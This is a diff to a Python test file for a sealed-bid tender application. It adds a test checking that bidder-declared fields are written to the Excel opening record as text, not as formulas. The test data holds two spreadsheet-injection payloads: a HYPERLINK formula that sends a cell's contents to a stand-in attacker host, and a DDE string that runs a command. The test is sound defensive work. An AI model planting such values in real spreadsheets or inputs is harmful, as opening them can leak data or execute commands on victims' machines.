@@ -25,8 +25,9 @@ def client_for(app, username):
     return client
 
 
-def prepare(app) -> int:
-    """The demo construction lot with three sealed bids, past its deadline (opening)."""
+def prepare(app, **declared) -> int:
+    """The demo construction lot with three sealed bids, past its deadline (opening); ``declared`` adds to (or
+    replaces) the fields each bid declares beside its price."""
     with app.app_context():
         demo_data.load_lots(db.session, FIXED_NOW, blob_store())
         people = walk.cast(db.session)
@@ -43,7 +44,7 @@ def prepare(app) -> int:
             out = io.BytesIO()
             envelope.seal(out, lot_code=lot.deal_code, bidder_code=bidder.organisation.credit_code,
                           lot_public_key=keys.opening_key_of(db.session, lot).public_key,
-                          price_form={"price": price, "duration": "300日历天"}, files=[],
+                          price_form={"price": price, "duration": "300日历天", **declared}, files=[],
                           signer=pki.load_private_key(key_file, "keypass2026"), certificate_pem=pem)
             guard = bids.begin_upload(db.session, bidder, FIXED_NOW, lot)
             blob = blob_store().put(io.BytesIO(out.getvalue()))
@@ -68,6 +69,27 @@ def test_holders_release_shares_and_followers_see_the_record(app, demo):
     sheet = openpyxl.load_workbook(io.BytesIO(bidder.get(f"/lots/{lot_id}/opening.xlsx").data)).active
     assert [row[2] for row in sheet.iter_rows(min_row=5, values_only=True)] == [float(p) for p in PRICES]
     assert client_for(app, "bidder5").get(f"/lots/{lot_id}/opening").status_code == 404  # not signed up
+
+
+INJECTED = {"duration": '=HYPERLINK("http://evil.example/?"&A1,"300日历天")', "=cmd|' /C calc'!A0": "@SUM(1+1)"}
+
+
+def test_a_declared_field_that_looks_like_a_formula_is_text_in_the_excel_record(app, demo):
+    """Issue 14: whatever a bidder declares, the record every follower downloads holds it as text, not a formula."""
+    lot_id = prepare(app, **INJECTED)
+    for holder in ("staff", "supervisor"):
+        client_for(app, holder).post(f"/lots/{lot_id}/opening/release", data={"passphrase": demo.DEMO_KEY_PASSPHRASE})
+    response = client_for(app, "bidder1").get(f"/lots/{lot_id}/opening.xlsx")
+    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
+    rows = list(sheet.iter_rows(min_row=5))
+    assert len(rows) == 3
+    for row in rows:
+        duration, others = row[3], row[4]
+        assert duration.value == INJECTED["duration"] and duration.data_type == "s" and duration.quotePrefix
+        assert others.value == "=cmd|' /C calc'!A0：@SUM(1+1)" and others.data_type == "s" and others.quotePrefix
+        assert row[2].data_type == "n"  # the price stays a number the record can sum
+    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
 
 
 def test_a_bidder_objects_and_staff_answer(app, demo):
